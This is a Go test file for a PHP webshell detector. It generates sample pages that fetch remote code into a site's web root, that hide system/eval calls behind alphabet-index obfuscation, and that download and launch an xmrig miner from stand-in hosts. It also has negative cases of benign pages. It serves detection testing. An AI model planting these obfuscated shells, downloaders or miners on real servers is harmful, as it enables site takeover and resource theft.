package webshell

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// Techniques, generated: a page that pulls a shell from the web onto the site as a page of
// its own.

// pageDownloaderPages: a page fetches a URL (a literal, through variables and function
// parameters) and writes what it gets into the site under a server page's name, with no
// password and outside any upload directory.
func pageDownloaderPages(r *rand.Rand) []techVariant {
	hosts := []string{"https://raw.example-git.test/" + "u/r/main/", "http://198.51.100.7/", "https://paste.example.org/raw/", "ftp://203.0.113.9/pub/"}
	exts := []string{".php", ".php5", ".phtml", ".php7", ".pht"}
	dirs := []string{
		"$_SERVER['DOCUMENT_ROOT'] . '/'",
		"$_SERVER['DOCUMENT_ROOT'] . DIRECTORY_SEPARATOR",
		"getcwd() . DIRECTORY_SEPARATOR",
		"getcwd() . '/'",
		"__DIR__ . '/'",
		"dirname(__FILE__) . '/'",
		"'./'",
	}
	places := []string{"/var/www/html/wp-content/themes/" + word(r) + "/inc/", "/var/www/html/", "/var/www/html/wp-content/plugins/" + word(r) + "/", "/srv/www/site/public/"}
	var out []techVariant
	for n := 0; n < 36; n++ {
		url := hosts[r.Intn(len(hosts))] + word(r) + []string{".txt", ".php", "", ".jpg"}[r.Intn(4)]
		name := word(r) + exts[r.Intn(len(exts))]
		dir := dirs[r.Intn(len(dirs))]
		u, d, nm, data, h := "$"+word(r), "$"+word(r), "$"+word(r), "$"+word(r), "$"+word(r)
		fetch := []string{
			data + " = file_get_contents(" + u + ");\n",
			data + " = @file_get_contents(" + u + ");\n",
			h + "in = fopen(" + u + ", 'r');\n" + data + " = stream_get_contents(" + h + "in);\n",
			h + "c = curl_init(" + u + ");\ncurl_setopt(" + h + "c, CURLOPT_RETURNTRANSFER, 1);\n" + data + " = curl_exec(" + h + "c);\n",
		}[r.Intn(4)]
		var write string
		target := dir + " . " + nm
		if r.Intn(3) == 0 && strings.HasPrefix(dir, "$_SERVER") {
			target = "\"$_SERVER[DOCUMENT_ROOT]/" + "\" . " + nm
		}
		if r.Intn(3) == 0 {
			// the directory kept in a variable and interpolated
			write = d + " = " + dir + ";\n"
			target = "\"" + d + nm + "\""
		}
		switch r.Intn(3) {
		case 0:
			write += "file_put_contents(" + target + ", " + data + ");\n"
		case 1:
			write += h + " = fopen(" + target + ", 'w');\nfwrite(" + h + ", " + data + ");\nfclose(" + h + ");\n"
		case 2:
			write += h + " = @fopen(" + target + ", 'wb');\nfputs(" + h + ", " + data + ");\n"
		}
		body := fetch + write + "echo 'done';\n"
		var page string
		switch n % 3 {
		case 0:
			// at the top
			page = u + " = '" + url + "';\n" + nm + " = '" + name + "';\n" + body
		case 1:
			// in a function the page calls with the URL and the name
			fn := word(r)
			page = "function " + fn + "(" + nm + ", " + u + ") {\n" + body + "}\n" + fn + "('" + name + "', '" + url + "');\n"
		case 2:
			// through variables handed to a function that copies its parameters
			fn, p1, p2 := word(r), "$"+word(r), "$"+word(r)
			page = "$src = '" + url + "';\n$out = '" + name + "';\nfunction " + fn + "(" + p1 + ", " + p2 + ") {\n" + nm + " = " + p1 + ";\n" + u + " = " + p2 + ";\n" + body + "}\n" + fn + "($out, $src);\n"
		}
		head := "<?php\n"
		if r.Intn(2) == 0 {
			head += "/* " + word(r) + " */\nset_time_limit(0);\n"
		}
		out = append(out, techVariant{"page-downloader", places[r.Intn(len(places))] + word(r) + exts[r.Intn(len(exts))], head + page})
	}
	return out
}

// alphabetBuild returns PHP statements that build an alphabet in the variable v, and the
// alphabet they build: range() of letters and digits, str_split of a literal, array_merge
// of those, a foreach over a range appending each element, $v[] = 'x' and array_push.
func alphabetBuild(r *rand.Rand, v string) (string, []string) {
	var code strings.Builder
	var alpha []string
	rng := func(lo, hi byte) []string {
		var out []string
		for c := lo; c <= hi; c++ {
			out = append(out, string(c))
		}
		return out
	}
	punct := []string{"(", ")", "$", "_", "[", "]", "'", "\"", ";", " ", ".", "@", "=", "/", "-", ">", ","}
	r.Shuffle(len(punct), func(i, j int) { punct[i], punct[j] = punct[j], punct[i] })
	q := func(s string) string {
		if s == "'" || s == "\\" {
			return "'\\" + s + "'"
		}
		return "'" + s + "'"
	}
	switch r.Intn(4) {
	case 0:
		code.WriteString(v + " = range('a', 'z');\n")
		alpha = rng('a', 'z')
		k := "$" + word(r)
		code.WriteString("foreach (range('A', 'Z') as " + k + ") {\n  " + v + "[] = " + k + ";\n}\n")
		alpha = append(alpha, rng('A', 'Z')...)
	case 1:
		code.WriteString(v + " = array_merge(range('a', 'z'), range('A', 'Z'), range(0, 9));\n")
		alpha = append(append(rng('a', 'z'), rng('A', 'Z')...), rng('0', '9')...)
	case 2:
		letters := rng('a', 'z')
		r.Shuffle(len(letters), func(i, j int) { letters[i], letters[j] = letters[j], letters[i] })
		code.WriteString(v + " = str_split('" + strings.Join(letters, "") + "');\n")
		alpha = letters
		code.WriteString(v + " = array_merge(" + v + ", range('A', 'Z'));\n")
		alpha = append(alpha, rng('A', 'Z')...)
	case 3:
		code.WriteString(v + " = array_merge(str_split('0123456789'), range('z', 'a'), range('A', 'Z'));\n")
		rev := rng('a', 'z')
		for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
			rev[i], rev[j] = rev[j], rev[i]
		}
		alpha = append(append(rng('0', '9'), rev...), rng('A', 'Z')...)
	}
	// the punctuation: one per statement, several to a line, or array_push
	if r.Intn(3) == 0 {
		var qs []string
		for _, p := range punct {
			qs = append(qs, q(p))
		}
		code.WriteString("array_push(" + v + ", " + strings.Join(qs, ", ") + ");\n")
	} else {
		for n, p := range punct {
			code.WriteString(v + "[] = " + q(p) + ";")
			if n%4 == 3 || r.Intn(2) == 0 {
				code.WriteString("\n")
			} else {
				code.WriteString(" ")
			}
		}
		code.WriteString("\n")
	}
	alpha = append(alpha, punct...)
	return code.String(), alpha
}

// alphabetIndexes returns the indexes of the characters of s in alpha.
func alphabetIndexes(alpha []string, s string) []string {
	var out []string
	for i := 0; i < len(s); i++ {
		for k, a := range alpha {
			if a == s[i:i+1] {
				out = append(out, fmt.Sprint(k))
				break
			}
		}
	}
	return out
}

// generatedAlphabetPages: the page generates an alphabet and rebuilds the name it calls, or the code
// it evaluates, by indexing into it: directly ($r[18] . $r[24] ...), or by joining the
// elements a list of indexes names (explode of a dotted key, an array of numbers) in a
// foreach, or through implode(array_map(...)); the code may go through a base64 round trip.
func generatedAlphabetPages(r *rand.Rand) []techVariant {
	payloads := []string{"system($_GET['%s']);", "@eval($_POST['%s']);", "passthru($_REQUEST['%s']);", "echo shell_exec($_COOKIE['%s']);",
		"echo 'ok';", "phpinfo();"}
	runs := []string{"eval(%s);", "@eval(%s);", "eval(base64_decode(base64_encode(%s)));", "assert(%s);", "eval(\"?>\" . '<?php ' . %s);"}
	seps := []string{".", ",", "-", "|", ":"}
	var out []techVariant
	for n := 0; n < 40; n++ {
		v := "$" + word(r)
		build, alpha := alphabetBuild(r, v)
		var page string
		switch n % 4 {
		case 0:
			// a runner's name spelled by indexes, called with the request's value
			fn := []string{"system", "passthru", "shell_exec", "assert"}[r.Intn(4)]
			var parts []string
			for _, k := range alphabetIndexes(alpha, fn) {
				parts = append(parts, v+"["+k+"]")
			}
			f := "$" + word(r)
			sep := " . "
			if r.Intn(2) == 0 {
				sep = ".\n  "
			}
			page = build + f + " = " + strings.Join(parts, sep) + ";\n" + f + "($_REQUEST['" + word(r) + "']);\n"
		case 1, 2:
			// code from a key of indexes, joined in a loop
			code := fmt.Sprintf(payloads[r.Intn(len(payloads))], word(r))
			idx := alphabetIndexes(alpha, code)
			sep := seps[r.Intn(len(seps))]
			key, acc, item := "$"+word(r), "$"+word(r), "$"+word(r)
			var keys string
			switch r.Intn(4) {
			case 3:
				// fixed-width indexes
				var fixed strings.Builder
				for _, k := range idx {
					fixed.WriteString(fmt.Sprintf("%03s", k))
				}
				keys = key + " = str_split('" + strings.ReplaceAll(fixed.String(), " ", "0") + "', 3);\n"
			case 0:
				keys = key + " = '" + strings.Join(idx, sep) + "';\n" + key + "s = explode('" + sep + "', " + key + ");\n"
				key += "s"
			case 1:
				keys = key + " = explode('" + sep + "', '" + strings.Join(idx, sep) + "');\n"
			case 2:
				keys = key + " = array(" + strings.Join(idx, ", ") + ");\n"
			}
			read := []string{v + "[" + item + "]", "\"" + v + "[" + item + "]\"", "\"{" + v + "[" + item + "]}\"", v + "[(int)" + item + "]", v + "[intval(" + item + ")]"}[r.Intn(5)]
			if strings.Contains(keys, "str_split") {
				// fixed-width indexes ('004') are integers only once cast
				read = []string{v + "[(int)" + item + "]", v + "[intval(" + item + ")]"}[r.Intn(2)]
			}
			loop := "foreach (" + key + " as " + item + ") {\n  " + acc + " .= " + read + ";\n}\n"
			if r.Intn(2) == 0 {
				loop = "foreach (" + key + " as $i => " + item + ")\n  " + acc + " .= " + read + ";\n"
			}
			if r.Intn(2) == 0 {
				loop = acc + " = '';\n" + loop
			}
			page = build + keys + loop + fmt.Sprintf(runs[r.Intn(len(runs))], acc) + "\n"
		case 3:
			// implode(array_map(...)) over the indexes
			code := fmt.Sprintf(payloads[r.Intn(len(payloads))], word(r))
			idx := alphabetIndexes(alpha, code)
			sep := seps[r.Intn(len(seps))]
			item, c := "$"+word(r), "$"+word(r)
			fn := "function (" + item + ") use (" + v + ") { return " + v + "[" + item + "]; }"
			if r.Intn(2) == 0 {
				fn = "fn(" + item + ") => " + v + "[" + item + "]"
			}
			page = build + c + " = implode('', array_map(" + fn + ", explode('" + sep + "', '" + strings.Join(idx, sep) + "')));\n" + fmt.Sprintf(runs[r.Intn(len(runs))], c) + "\n"
		}
		p := []string{"/var/www/html/wp-content/uploads/2024/05/", "/var/www/html/", "/var/www/html/images/", "/srv/app/public/"}[r.Intn(4)] + word(r) + []string{".php", ".phtml", ".php5"}[r.Intn(3)]
		out = append(out, techVariant{"alphabet-index", p, "<?php\n/* " + word(r) + " */\n" + page})
	}
	return out
}

// minerPages: a page starts a cryptocurrency miner: a pool (a stratum URL, host:port, or
// one the request names), an account, a miner's own options, a binary by its name or
// renamed, the command built as a literal, by concatenation, interpolation or sprintf with
// escapeshellarg, run through shell_exec, exec, system, passthru, popen, proc_open or
// backticks, detached or not, after fetching and chmodding the binary or not.
func minerPages(r *rand.Rand) []techVariant {
	wallet := "4" + strings.Repeat("8ABcdEfGhJk", 9)[:94]
	pools := []string{"stratum+tcp://pool.example.net:3333", "stratum+ssl://xmr.example.org:443", "pool.example.com:10128", "203.0.113.8:5555"}
	bins := []string{"xmrig", "./xmrig", "/tmp/.x/php-fpm", "__DIR__ . '/wp-cron.bin'", "'/dev/shm/kworker'", "'./cache-helper.exe'"}
	opts := [][]string{{"--donate-level=1"}, {"--randomx-mode=light"}, {"--cpu-max-threads-hint", "50"}, {"-a", "rx/0"}, {"--coin", "monero"}, {"--max-cpu-usage=75"}}
	runners := []string{"shell_exec(%s);", "exec(%s, $out);", "system(%s);", "passthru(%s);", "$h = popen(%s, 'r'); pclose($h);", "proc_open(%s, [], $pipes);"}
	var out []techVariant
	for n := 0; n < 36; n++ {
		pool := pools[r.Intn(len(pools))]
		bin := bins[r.Intn(len(bins))]
		opt := opts[r.Intn(len(opts))]
		user := wallet
		if r.Intn(2) == 0 {
			user = "worker" + word(r)
		}
		if !strings.HasPrefix(pool, "stratum") && user != wallet && !strings.HasPrefix(opt[0], "--") && opt[0] != "-a" {
			opt = opts[0]
		}
		detach := []string{"nohup %s > /dev/null 2>&1 &", "setsid nohup %s >/dev/null 2>&1 &", "%s &", "%s"}[r.Intn(4)]
		var page strings.Builder
		page.WriteString("<?php\n")
		binExpr := bin
		if !strings.Contains(bin, "'") && !strings.Contains(bin, "__DIR__") {
			binExpr = "'" + bin + "'"
		}
		if r.Intn(2) == 0 {
			page.WriteString("$bin = " + binExpr + ";\n")
			if r.Intn(2) == 0 {
				page.WriteString("if (!file_exists($bin)) { file_put_contents($bin, file_get_contents('http://198.51.100.4/' . basename($bin))); }\n@chmod($bin, 0755);\n")
			}
			binExpr = "$bin"
		}
		poolExpr := "'" + pool + "'"
		if r.Intn(3) == 0 {
			poolExpr = "$_GET['pool'] ?? '" + pool + "'"
		}
		page.WriteString("$pool = " + poolExpr + ";\n$user = '" + user + "';\n")
		page.WriteString("$threads = (int) shell_exec('nproc');\n")
		args := "-o %s -u %s -t %d " + strings.Join(opt, " ")
		var cmd, build string
		switch r.Intn(4) {
		case 0:
			// sprintf with escapeshellarg
			format := fmt.Sprintf(detach, "%s "+args)
			cmd = "sprintf('" + format + "', escapeshellarg(" + binExpr + "), escapeshellarg($pool), escapeshellarg($user), $threads)"
		case 1:
			// concatenation over lines
			line := fmt.Sprintf(detach, "BIN -o ' . $pool .\n  ' -u ' . $user . ' -t ' . $threads . ' "+strings.Join(opt, " "))
			pre, post, _ := strings.Cut(line, "BIN")
			cmd = "'" + pre + "' . " + binExpr + " . '" + post + "'"
		case 2:
			// interpolation
			if binExpr != "$bin" {
				page.WriteString("$bin = " + binExpr + ";\n")
			}
			cmd = "\"" + fmt.Sprintf(detach, "$bin -o $pool -u $user -t $threads "+strings.Join(opt, " ")) + "\""
		case 3:
			// built up with .=
			build = "$c = " + binExpr + ";\n$c .= ' -o ' . $pool;\n$c .= ' -u ' . $user;\n$c .= ' " + strings.Join(opt, " ") + "';\n"
			cmd = "$c"
			if strings.Contains(detach, "nohup") {
				cmd = "'nohup ' . $c . ' > /dev/null 2>&1 &'"
			}
		}
		run := runners[r.Intn(len(runners))]
		if r.Intn(5) == 0 && !strings.Contains(cmd, "sprintf") && strings.HasPrefix(cmd, "\"") {
			// backticks
			page.WriteString("$o = `" + strings.Trim(cmd, "\"") + "`;\n")
		} else if r.Intn(2) == 0 {
			fn := word(r)
			// the binary's path is the function's own
			if binExpr == "$bin" {
				binExpr = bin
				if !strings.Contains(bin, "'") && !strings.Contains(bin, "__DIR__") {
					binExpr = "'" + bin + "'"
				}
			}
			build = strings.ReplaceAll(build, "$c = $bin;", "$c = "+binExpr+";")
			page.WriteString("function " + fn + "($pool, $user, $threads) {\n  $bin = " + binExpr + ";\n" + build + "  $cmd = " + cmd + ";\n  " + fmt.Sprintf(run, "$cmd") + "\n}\n" + fn + "($pool, $user, $threads);\n")
		} else {
			page.WriteString(build + "$cmd = " + cmd + ";\n" + fmt.Sprintf(run, "$cmd") + "\n")
		}
		page.WriteString("echo 'ok';\n")
		p := []string{"/var/www/html/wp-content/uploads/2024/02/", "/var/www/html/", "/var/www/html/wp-includes/", "/srv/www/app/public/"}[r.Intn(4)] + word(r) + ".php"
		out = append(out, techVariant{"miner-page", p, page.String()})
	}
	return out
}

func TestHarnessTechniques3(t *testing.T) {
	r := rand.New(rand.NewSource(12))
	var vs []techVariant
	vs = append(vs, pageDownloaderPages(r)...)
	vs = append(vs, generatedAlphabetPages(r)...)
	vs = append(vs, minerPages(r)...)
	scoreTechniques(t, vs, nil)
}

// Pages that fetch and write what is no server page, or write a page that was not fetched,
// stay below high.
func TestTechnique3Negatives(t *testing.T) {
	pages := map[string]string{
		// a feed cached beside the page: a downloader of data, medium at most
		"/var/www/html/wp-content/themes/t/inc/feed.php": "<?php\nfunction cache_feed($url, $file) {\n  $x = file_get_contents($url);\n  file_put_contents(__DIR__ . '/' . $file, $x);\n}\ncache_feed('https://news.example.org/rss.xml', 'feed.xml');\n",
		// an updater that fetches an archive into the site
		"/var/www/html/wp-content/plugins/p/update.php": "<?php\n$zip = 'https://downloads.example.org/p-2.1.zip';\n$fp = fopen(__DIR__ . '/upgrade/p.zip', 'w');\nfwrite($fp, file_get_contents($zip));\nfclose($fp);\n",
		// a template compiled to a PHP cache file from a local template
		"/var/www/html/app/render.php": "<?php\n$tpl = file_get_contents(__DIR__ . '/views/home.tpl');\n$code = preg_replace('/\\{\\{(\\w+)\\}\\}/', '<?php echo $$1; ?>', $tpl);\nfile_put_contents(__DIR__ . '/cache/home.php', $code);\n",
		// a remote page written outside the site
		"/var/www/html/tools/mirror.php": "<?php\n$src = 'https://mirror.example.org/lib/loader.php';\nfile_put_contents('/var/lib/mirror/loader.php', file_get_contents($src));\n",
	}
	for p, page := range pages {
		if b := best(New().Analyze(p, []byte(page))); b != nil && b.Severity >= audit.High {
			t.Errorf("%s: %s %s %s\n%s", p, b.Severity, b.Rule, b.Title, page)
		}
	}
}

// Pages that run programs with options that look like a miner's and are not one.
func TestMinerPageNegatives(t *testing.T) {
	pages := map[string]string{
		"/var/www/html/fetch.php":   "<?php\n$u = $_GET['u'] ?? 'x';\nexec('curl -s -o /tmp/feed.xml -u reader:' . escapeshellarg($u) . ' https://feeds.example.org/a.xml');\n",
		"/var/www/html/backup.php":  "<?php\n$pass = getenv('DB_PASS');\nshell_exec(sprintf('mysqldump -u %s -p%s -h %s app > /var/backups/app.sql', 'app', escapeshellarg($pass), 'db:3306'));\n",
		"/var/www/html/video.php":   "<?php\n$in = basename($_GET['f']);\nshell_exec('ffmpeg -i ' . escapeshellarg($in) . ' -t 30 -o out.mp4 -a aac');\n",
		"/var/www/html/monitor.php": "<?php\n$p = shell_exec('ps aux | grep -v grep | grep xmrig');\nif ($p) { mail('ops@example.com', 'miner found', $p); }\necho htmlspecialchars($_GET['x'] ?? '');\n",
		"/var/www/html/help.php":    "<?php\necho '<pre>xmrig -o stratum+tcp://pool:3333 -u WALLET --donate-level 1</pre>';\necho htmlspecialchars($_GET['q'] ?? '');\n",
		"/var/www/html/ssh.php":     "<?php\nexec('ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 -u deploy backup.example.org:22 true');\n",
	}
	for p, page := range pages {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			for _, f := range fs {
				if f.Rule == RuleMiner || f.Severity >= audit.High {
					t.Errorf("%s:%s\n%s", p, dump(fs), page)
					break
				}
			}
		}
	}
}

// Alphabets clean code generates and indexes: an A-Z index of links, a captcha's random
// characters, a spreadsheet's column names, text picked out of an alphabet and printed.
func TestAlphabetNegatives(t *testing.T) {
	pages := map[string]string{
		"/var/www/html/glossary.php": "<?php\nforeach (range('A', 'Z') as $l) {\n  echo '<a href=\"?letter=' . $l . '\">' . $l . '</a> ';\n}\n$letter = $_GET['letter'] ?? 'A';\necho htmlspecialchars($letter);\n",
		"/var/www/html/captcha.php":  "<?php\nsession_start();\n$chars = array_merge(range('a', 'z'), range(0, 9));\n$code = '';\nfor ($i = 0; $i < 6; $i++) {\n  $code .= $chars[mt_rand(0, count($chars) - 1)];\n}\n$_SESSION['captcha'] = $code;\nimagestring($im, 5, 5, 5, $code, $fg);\n",
		"/var/www/html/sheet.php":    "<?php\n$cols = range('A', 'Z');\n$cols[] = 'AA';\n$head = '';\nforeach (explode(',', '0,1,2,26') as $i) {\n  $head .= $cols[$i] . ';';\n}\necho $head;\n$sel = $cols[(int)$_GET['c']];\necho htmlspecialchars($sel);\n",
		"/var/www/html/hello.php":    "<?php\n$a = str_split('abcdefghijklmnopqrstuvwxyz');\n$w = $a[7] . $a[4] . $a[11] . $a[11] . $a[14];\necho $w;\n$q = $_GET['q'] ?? '';\necho strlen($q);\n",
		"/var/www/html/shuffle.php":  "<?php\n$a = range('a', 'z');\nshuffle($a);\n$k = '';\nforeach (explode('.', '1.2.3') as $i) $k .= $a[$i];\necho $k, $_GET['x'] ?? '';\n",
	}
	for p, page := range pages {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s\n%s", p, dump(fs), page)
		}
	}
	// the generated alphabet is folded exactly: a page that spells a harmless name stays silent,
	// one that spells a runner is found
	for _, c := range []struct {
		page string
		want bool
	}{
		{"<?php\n$r = range('a', 'z');\n$f = $r[18] . $r[19] . $r[17] . $r[11] . $r[4] . $r[13];\necho $f($_GET['s']);\n", false}, // strlen
		{"<?php\n$r = range('a', 'z');\n$f = $r[18] . $r[24] . $r[18] . $r[19] . $r[4] . $r[12];\n$f($_GET['s']);\n", true},       // system
	} {
		fs := New().Analyze("/var/www/html/x.php", []byte(c.page))
		if got := best(fs) != nil && best(fs).Severity >= audit.High; got != c.want {
			t.Errorf("found=%v, want %v:%s\n%s", got, c.want, dump(fs), c.page)
		}
	}
}

// TestValueFollowingBounded: a page crafted so that following its variables and parameters
// multiplies (each defined from many copies of the one before, each function called a
// thousand times with the last one's parameter) is still read to its end, without a panic.
func TestValueFollowingBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("<?php\n$v0 = trim($_GET['u'] ?? '');\n")
	for n := 1; n <= 6; n++ {
		b.WriteString(fmt.Sprintf("$v%d = %s;\n", n, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("$v%d . ", n-1), 200), " . ")))
	}
	b.WriteString("shell_exec($v6 . ' --donate-level 1');\n")
	for n := 1; n <= 5; n++ {
		b.WriteString(fmt.Sprintf("function f%d($p) { f%d($p); $d = file_get_contents($p); file_put_contents(__DIR__ . '/a.php', $d); }\n", n, n+1))
	}
	for n := 0; n < 1000; n++ {
		b.WriteString(fmt.Sprintf("f%d($v%d);\n", n%5+1, n%6))
	}
	fs := New().Analyze("/var/www/html/deep.php", []byte(b.String()))
	for _, f := range fs {
		if f.Rule == RuleSkipped {
			t.Errorf("analysis failed: %s %s", f.Title, f.Evidence)
		}
	}
}
